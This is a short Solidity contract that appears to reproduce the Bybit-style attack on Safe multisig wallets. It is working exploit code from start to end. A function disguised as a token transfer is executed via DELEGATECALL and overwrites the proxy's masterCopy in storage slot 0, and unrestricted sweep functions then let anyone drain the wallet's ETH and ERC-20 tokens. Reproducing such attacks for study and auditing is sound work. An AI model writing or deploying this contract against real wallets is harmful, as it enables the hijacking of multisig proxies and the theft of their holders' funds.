// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20Min} from "./BybitStyle.sol";

/// Both halves of the Bybit mechanism in one contract: owners are shown a token
/// `transfer(impl, 0)` that is executed as DELEGATECALL into this contract, which writes
/// `impl` (this contract's own address) into the Safe proxy's storage slot 0, its masterCopy.
/// From then on the proxy runs this code and anyone can sweep its ETH and tokens.
contract BybitStyleImpl {
    function transfer(address to, uint256) external {
        assembly {
            sstore(0, to)
        }
    }

    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }

    function sweepERC20(address token, address to) external {
        IERC20Min(token).transfer(to, IERC20Min(token).balanceOf(address(this)));
    }

    receive() external payable {}
}
